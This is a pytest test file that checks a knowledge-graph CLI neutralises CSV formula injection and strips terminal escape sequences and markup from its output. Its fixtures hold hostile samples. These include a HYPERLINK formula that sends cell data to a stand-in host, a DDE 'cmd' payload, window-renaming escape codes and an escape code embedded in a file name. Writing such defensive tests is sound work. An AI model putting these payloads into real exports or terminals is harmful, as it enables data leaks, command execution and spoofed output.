"""What every command prints is the data and only the data: a CSV cell never starts a formula in
a spreadsheet, and a table cell is text, never rich markup or a terminal escape sequence."""
import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kg.cli import main
from kg.textsafe import FORMULA_STARTS, csv_cell

FORMULA_TITLE = '=HYPERLINK("http://x.example/?"&A1,"click")'
ESCAPE_TITLE = "\x1b]0;window renamed\x07\x1b[2J\x1b[HKabul falls"
DOCS = [
    {"id": "markup", "date": "2021-08-28", "title": FORMULA_TITLE,
     "text": "Taliban fighters attacked the National Resistance Front in Panjshir, [/quote] "
             "[link=http://x.example]a witness[/link] said."},
    {"id": "@escape", "date": "2021-08-29", "title": ESCAPE_TITLE,
     "text": "The Afghan Army fought the Taliban in Kabul, +cmd|' /c calc'!A0 said."},
]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, extractor):
    from kg.api import build

    src = tmp_path_factory.mktemp("hostile") / "docs.jsonl"
    src.write_text("".join(json.dumps(d) + "\n" for d in DOCS), encoding="utf-8")
    store = src.parent / "store"
    with build([src], store=store, extractor=extractor) as graph:
        assert graph.report.errors == [] and graph.report.statements >= 2
    return str(store)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_lists_neutralise_cells_that_start_a_formula(hostile_store, capsys):
    titles = ("SELECT ?id ?title WHERE { ?d <http://purl.org/dc/terms/identifier> ?id ; "
              "<http://purl.org/dc/terms/title> ?title }")
    for argv in (["documents"], ["query", "--sparql", titles]):
        assert main(argv + ["--format", "csv", "--store", hostile_store]) == 0
        cells = _cells(capsys.readouterr().out)
        assert "'" + FORMULA_TITLE in cells and "'@escape" in cells
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_tables_print_markup_and_escape_sequences_as_plain_text(hostile_store, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")  # wide enough that no cell is folded
    assert main(["query", "evidence", "-p", "subject=Taliban", "-p", "object=National Resistance Front",
                 "--store", hostile_store]) == 0
    out = capsys.readouterr().out
    assert "[/quote]" in out and "[link=http://x.example]a witness[/link]" in out
    assert main(["documents", "--store", hostile_store]) == 0
    out = capsys.readouterr().out
    assert "Kabul falls" in out and "window renamed" not in out
    assert not [c for c in out if ord(c) < 32 and c != "\n" or 0x7f <= ord(c) < 0xa0]


def test_an_error_line_carries_no_escape_sequence(tmp_path, capsys):
    bad = tmp_path / "bad\x1b]0;renamed\x07.txt"
    bad.write_bytes(b"caf\xe9 not UTF-8")
    assert main(["build", str(bad), "--store", str(tmp_path / "s"), "-q"]) == 2
    err = capsys.readouterr().err
    assert "bad.txt: not UTF-8" in err and "\x1b" not in err and "\x07" not in err


_VALUE = st.none() | st.integers() | st.floats(allow_nan=False) | st.text() | st.sampled_from(
    ["[/quote]", "[link=http://x.example]x[/link]", "[bold red]", "\x1b]0;t\x07", "\x9b2J", "=1+1", "\t-2"])


@given(st.lists(st.lists(_VALUE, min_size=2, max_size=2), max_size=5), st.text(max_size=20))
@settings(max_examples=150, deadline=None)
def test_any_table_prints_as_plain_text_and_any_csv_reads_back_cell_for_cell(rows, title):
    from rich.console import Console

    from kg.cli.base import print_table
    from kg.sparql import QueryResult

    result = QueryResult(["a", "b"], rows)
    out = Console(file=io.StringIO(), width=300, highlight=False)
    print_table(result, title=title, out=out)  # never a MarkupError
    printed = out.file.getvalue()
    assert not [c for c in printed if ord(c) < 32 and c not in "\n" or 0x7f <= ord(c) < 0xa0]
    back = list(csv.reader(io.StringIO(result.to_csv())))
    assert back[0] == ["a", "b"] and len(back) == len(rows) + 1
    for written, row in zip(back[1:], rows):
        for cell, value in zip(written, row):
            assert cell == csv_cell(value)
            assert not cell.startswith(FORMULA_STARTS) or isinstance(value, (int, float))
